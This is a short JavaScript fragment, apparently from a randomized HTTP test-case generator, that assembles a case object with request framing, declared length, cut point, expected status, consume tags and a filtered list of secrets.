  if (parallel > 1) tags.push(`parallel:${parallel}`);
  const consume = expect.includes(200) ? rng.weighted({ no: 60, owner: 32, stranger: 8 }) : "no";
  if (consume !== "no") tags.push(`consume:${consume}`);

  return {
    seed,
    index,
    uid,
    transport,
    request: { method, headers, body: body.body, framing, ...(declaredLength !== undefined && { declaredLength }), ...(cutAt !== undefined && { cutAt }) },
    parallel,
    expect,
    ...(body.file && { file: body.file }),
    ...(consume !== "no" && { consume }),
    cleanImage: body.clean,
    origin,
    secrets: secrets.filter((s) => s.length >= 8),
    tags,
  };
}
